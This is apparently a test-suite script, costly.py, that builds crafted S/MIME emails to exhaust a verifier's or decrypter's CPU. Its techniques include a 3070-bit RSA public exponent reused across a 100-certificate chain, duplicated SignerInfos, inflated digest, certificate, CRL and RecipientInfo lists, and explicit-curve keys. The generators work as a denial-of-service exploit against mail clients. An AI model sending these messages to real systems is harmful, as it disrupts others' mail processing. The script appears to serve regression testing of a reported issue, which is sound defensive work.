#!/usr/bin/env python3
"""costly.py PKI OUTDIR KIND[:N]...: small messages that cost a verifier
(or a decrypter) a lot of CPU, made with python3 and the openssl command
line (keys come from `openssl prime`, and DER is patched by hand where
openssl will not write what an attacker would). Each KIND becomes
OUTDIR/KIND.eml (OUTDIR/KIND-N.eml with a count N):

  full      the attack of issue 10: a 3072-bit RSA key K whose public
            exponent has 3070 bits, a root and 99 intermediates with that
            same key, a leaf with it, and 100 copies of the SignerInfo
            (about 277 KB); every signature check with K costs as much as
            a private-key operation
  signers   N (100) copies of a good SignerInfo by alice (trusted, From alice)
  chain     one signer with an ordinary key under 50 CAs with key K
  exponent  one signer whose self-signed certificate has key K
  explicit  one signer whose self-signed certificate has a P-256 key
            with explicit curve parameters
  depth     a signer N (12) CAs below the trusted test intermediate
            (ordinary keys): a good signature, but a long chain
  digests   one good signature by alice whose digestAlgorithms list
            SHA-512 N (1000) more times over a 1 MB body (OpenSSL
            hashes the content once per entry)
  certs     one good signature by alice carrying N (2000) more certificates
  crls      one good signature by alice carrying N (20) CRLs
  parts     a multipart/mixed of N (200) parts, each signed by alice
  recipients  enveloped-data to bob with N (1100) RecipientInfos

PKI is the test PKI (tests/pki/mkpki): alice's key and the intermediate
CA's. Work files go to OUTDIR/work."""
import base64
import math
import os
import subprocess
import sys

from der import children, tl, tlv


def run(*args, stdin=None):
    return subprocess.run(args, input=stdin, capture_output=True, check=True).stdout


def der_int(v):
    b = v.to_bytes(v.bit_length() // 8 + 1, 'big')
    return tlv(0x02, b)


def pem(label, der):
    b = base64.encodebytes(der).decode()
    return '-----BEGIN %s-----\n%s-----END %s-----\n' % (label, b, label)


def big_exponent_key(path):
    """a 3072-bit RSA key whose public exponent has 3070 bits"""
    p = int(run('openssl', 'prime', '-generate', '-bits', '1536'))
    q = int(run('openssl', 'prime', '-generate', '-bits', '1536'))
    n, phi = p * q, (p - 1) * (q - 1)
    e = int.from_bytes(os.urandom(384), 'big') >> (3072 - 3070) | (1 << 3069) | 1
    while math.gcd(e, phi) != 1:
        e += 2
    d = pow(e, -1, phi)
    key = tlv(0x30, b''.join(der_int(v) for v in (0, n, e, d, p, q, d % (p - 1), d % (q - 1),
                                                     pow(q, -1, p))))
    open(path, 'w').write(pem('RSA PRIVATE KEY', key))


EXT = '''[ ca ]
basicConstraints = critical, CA:TRUE
keyUsage = critical, keyCertSign, cRLSign
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
[ leaf ]
basicConstraints = CA:FALSE
keyUsage = critical, digitalSignature, nonRepudiation, keyEncipherment
extendedKeyUsage = emailProtection
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
subjectAltName = email:%s
'''


class Maker:
    def __init__(self, pki, work):
        self.pki, self.work, self.serial = pki, work, 4000
        os.makedirs(work, exist_ok=True)

    def f(self, name):
        return os.path.join(self.work, name)

    def pub(self, key):
        out = self.f(os.path.basename(key) + '.pub')
        if not os.path.exists(out):
            run('openssl', 'pkey', '-in', key, '-pubout', '-out', out)
        return out

    def cert(self, name, subj, key, ca=None, ca_key=None, ext='ca', email='x@evil.example'):
        """a certificate for `key`, issued by ca/ca_key (self-signed without)"""
        self.serial += 1
        cnf = self.f('ext-%s.cnf' % email)
        if not os.path.exists(cnf):
            open(cnf, 'w').write(EXT % email)
        out = self.f(name + '.crt')
        args = ['openssl', 'x509', '-new', '-subj', subj, '-days', '3650', '-set_serial', str(self.serial),
                '-extfile', cnf, '-extensions', ext, '-out', out]
        if ca:
            args += ['-force_pubkey', self.pub(key), '-CA', ca, '-CAkey', ca_key]
        else:
            args += ['-key', key]
        run(*args)
        return out

    def rsa(self, name):
        out = self.f(name + '.key')
        if not os.path.exists(out):
            run('openssl', 'genpkey', '-algorithm', 'RSA', '-pkeyopt', 'rsa_keygen_bits:2048', '-out', out)
        return out

    def k(self):
        out = self.f('k.key')
        if not os.path.exists(out):
            big_exponent_key(out)
        return out

    def sign(self, content, signer, key, certs):
        """a detached DER SignedData over `content` carrying `certs`"""
        args = ['openssl', 'cms', '-sign', '-binary', '-outform', 'DER', '-signer', signer, '-inkey', key,
                '-md', 'sha256']
        if certs:
            bundle = self.f('bundle.pem')
            with open(bundle, 'wb') as o:
                for c in certs:
                    o.write(open(c, 'rb').read())
            args += ['-certfile', bundle]
        return run(*args, stdin=content)

    def k_chain(self, n):
        """a root and n-1 intermediates, all with key K: (certs, last)"""
        if hasattr(self, '_kchain'):
            return self._kchain
        k = self.k()
        certs = [self.cert('k0', '/CN=costly root', k)]
        for i in range(1, n):
            certs.append(self.cert('k%d' % i, '/CN=costly CA %d' % i, k, certs[-1], k))
        self._kchain = certs
        return certs




def signed_data_parts(der):
    """the SignedData's (or EnvelopedData's) elements, and a function that
    makes the ContentInfo again from them"""
    ci = children(der, 0)
    explicit = ci[1][0]
    sd_off = children(der, explicit)[0][0]
    parts = [der[o:o + l] for o, l in children(der, sd_off)]

    def rebuild(new):
        sd = tlv(0x30, b''.join(new))
        return tlv(0x30, der[ci[0][0]:ci[0][0] + ci[0][1]] + tlv(0xa0, sd))
    return parts, rebuild


enveloped_parts = signed_data_parts


def inner(b):
    """the value of one element"""
    t, h, n = tl(b, 0)
    return b[h:h + n]


def copies_of_signer(der, n):
    parts, rebuild = signed_data_parts(der)
    si = parts[-1]
    one = si[tl(si, 0)[1]:]
    parts[-1] = tlv(0x31, one * n)
    return rebuild(parts)


def more_digests(der, n):
    parts, rebuild = signed_data_parts(der)
    algs = inner(parts[1])
    sha512 = tlv(0x30, bytes.fromhex('0609608648016503040203') + b'\x05\x00')
    parts[1] = tlv(0x31, algs + sha512 * n)
    return rebuild(parts)


def more_certs(der, extra):
    parts, rebuild = signed_data_parts(der)
    for i, p in enumerate(parts):
        if p[0] == 0xa0:
            parts[i] = tlv(0xa0, inner(p) + extra)
    return rebuild(parts)


def more_crls(der, crls):
    parts, rebuild = signed_data_parts(der)
    at = max(i for i, p in enumerate(parts) if p[0] in (0x30, 0x31, 0xa0) and i < len(parts) - 1) + 1
    parts.insert(at, tlv(0xa1, crls))
    return rebuild(parts)


def pem_to_der(path):
    body = ''.join(l for l in open(path) if not l.startswith('-----'))
    return base64.b64decode(body)


ENTITY = b'Content-Type: text/plain; charset=us-ascii\r\n\r\nPlease pay the invoice.\r\n'


def multipart_signed(from_, entity, sig):
    b = 'costly-b'
    head = ('From: %s\nTo: Bob Example <bob@example.org>\nSubject: a costly signature\n'
            'Date: Sat, 28 Nov 2026 12:00:00 +0000\nMessage-ID: <costly.%s@example.org>\nMIME-Version: 1.0\n'
            'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; '
            'boundary="%s"\n\n' % (from_, os.urandom(6).hex(), b))
    return (head.encode() + b'--' + b.encode() + b'\n' + entity.replace(b'\r\n', b'\n') + b'\n--' + b.encode() +
            b'\nContent-Type: application/pkcs7-signature; name=smime.p7s\nContent-Transfer-Encoding: base64\n'
            b'Content-Disposition: attachment; filename=smime.p7s\n\n' + base64.encodebytes(sig) +
            b'\n--' + b.encode() + b'--\n')


def make(m, kind, n):
    pki = m.pki
    alice = (os.path.join(pki, 'alice.crt'), os.path.join(pki, 'alice.key'))
    alice_chain = [os.path.join(pki, 'inter.crt')]
    if kind == 'full':
        k = m.k()
        chain = m.k_chain(100)
        leaf = m.cert('k-leaf', '/CN=Costly Signer/emailAddress=x@evil.example', k, chain[-1], k, 'leaf')
        sig = copies_of_signer(m.sign(ENTITY, leaf, k, chain), 100)
        return multipart_signed('x@evil.example', ENTITY, sig)
    if kind == 'signers':
        sig = copies_of_signer(m.sign(ENTITY, *alice, alice_chain), n or 100)
        return multipart_signed('Alice Example <alice@example.org>', ENTITY, sig)
    if kind == 'chain':
        k = m.k()
        chain = m.k_chain(100)[:50]
        key = m.rsa('ordinary')
        leaf = m.cert('chain-leaf', '/CN=Chained Signer/emailAddress=x@evil.example', key, chain[-1], k, 'leaf')
        return multipart_signed('x@evil.example', ENTITY, m.sign(ENTITY, leaf, key, chain))
    if kind == 'exponent':
        k = m.k()
        leaf = m.cert('k-self', '/CN=Big Exponent/emailAddress=x@evil.example', k, ext='leaf')
        return multipart_signed('x@evil.example', ENTITY, m.sign(ENTITY, leaf, k, []))
    if kind == 'depth':
        key = m.rsa('ordinary')
        ca, ca_key, chain = os.path.join(pki, 'inter.crt'), os.path.join(pki, 'inter.key'), []
        for i in range(n or 12):
            ca = m.cert('d%d' % i, '/CN=deep CA %d' % i, key, ca, ca_key)
            ca_key = key
            chain.append(ca)
        leaf = m.cert('d-leaf', '/CN=Deep Signer/emailAddress=deep@example.org', key, ca, key, 'leaf',
                      'deep@example.org')
        return multipart_signed('Deep Signer <deep@example.org>', ENTITY,
                                m.sign(ENTITY, leaf, key, chain + [os.path.join(pki, 'inter.crt')]))
    if kind == 'digests':
        entity = (b'Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n' +
                  base64.encodebytes(os.urandom(750000)).replace(b'\n', b'\r\n'))
        sig = more_digests(m.sign(entity, *alice, alice_chain), n or 1000)
        return multipart_signed('Alice Example <alice@example.org>', entity, sig)
    if kind == 'certs':
        extra = pem_to_der(m.cert('filler', '/CN=filler', m.rsa('ordinary'), ext='leaf'))
        sig = more_certs(m.sign(ENTITY, *alice, alice_chain), extra * (n or 2000))
        return multipart_signed('Alice Example <alice@example.org>', ENTITY, sig)
    if kind == 'crls':
        key = m.rsa('ordinary')
        ca = m.cert('crl-ca', '/CN=CRL issuer', key)
        open(m.f('index.txt'), 'w').close()
        cnf = m.f('ca.cnf')
        open(cnf, 'w').write('[ ca ]\ndefault_ca = c\n[ c ]\ndatabase = %s\ndefault_md = sha256\n'
                             'default_crl_days = 30\n' % m.f('index.txt'))
        crl = m.f('one.crl')
        run('openssl', 'ca', '-gencrl', '-config', cnf, '-keyfile', key, '-cert', ca, '-out', crl)
        sig = more_crls(m.sign(ENTITY, *alice, alice_chain), pem_to_der(crl) * (n or 20))
        return multipart_signed('Alice Example <alice@example.org>', ENTITY, sig)
    if kind == 'parts':
        sig = m.sign(ENTITY, *alice, alice_chain)
        b = b'costly-p'
        one = multipart_signed('', ENTITY, sig).split(b'\n\n', 1)[1]
        part = (b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; '
                b'boundary="costly-b"\n\n' + one)
        head = (b'From: Alice Example <alice@example.org>\nTo: bob@example.org\nSubject: many signed parts\n'
                b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="costly-p"\n\n')
        return head + b''.join(b'--' + b + b'\n' + part for _ in range(n or 200)) + b'--' + b + b'--\n'
    if kind == 'explicit':
        key = m.f('explicit.key')
        run('openssl', 'ecparam', '-name', 'prime256v1', '-param_enc', 'explicit', '-genkey', '-noout',
            '-out', key)
        leaf = m.cert('explicit', '/CN=Explicit Curve/emailAddress=x@evil.example', key, ext='leaf')
        return multipart_signed('x@evil.example', ENTITY, m.sign(ENTITY, leaf, key, []))
    if kind == 'recipients':
        env = lambda cert: run('openssl', 'cms', '-encrypt', '-aes256', '-binary', '-outform', 'DER',
                               os.path.join(pki, cert), stdin=ENTITY)
        der, other = env('bob.crt'), env('grace.crt')
        parts, rebuild = enveloped_parts(der)
        ri = inner(enveloped_parts(other)[0][1])
        parts[1] = tlv(0x31, ri * ((n or 1100) - 1) + inner(parts[1]))
        return ('From: x@evil.example\nTo: Bob Example <bob@example.org>\nSubject: many recipients\n'
                'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; '
                'name=smime.p7m\nContent-Transfer-Encoding: base64\n\n').encode() + base64.encodebytes(rebuild(parts))
    sys.exit('costly: unknown kind ' + kind)


def main():
    if len(sys.argv) < 4:
        sys.exit(__doc__)
    m = Maker(sys.argv[1], os.path.join(sys.argv[2], 'work'))
    for arg in sys.argv[3:]:
        kind, _, n = arg.partition(':')
        name = kind + ('-' + n if n else '') + '.eml'
        open(os.path.join(sys.argv[2], name), 'wb').write(make(m, kind, int(n) if n else 0))


main()
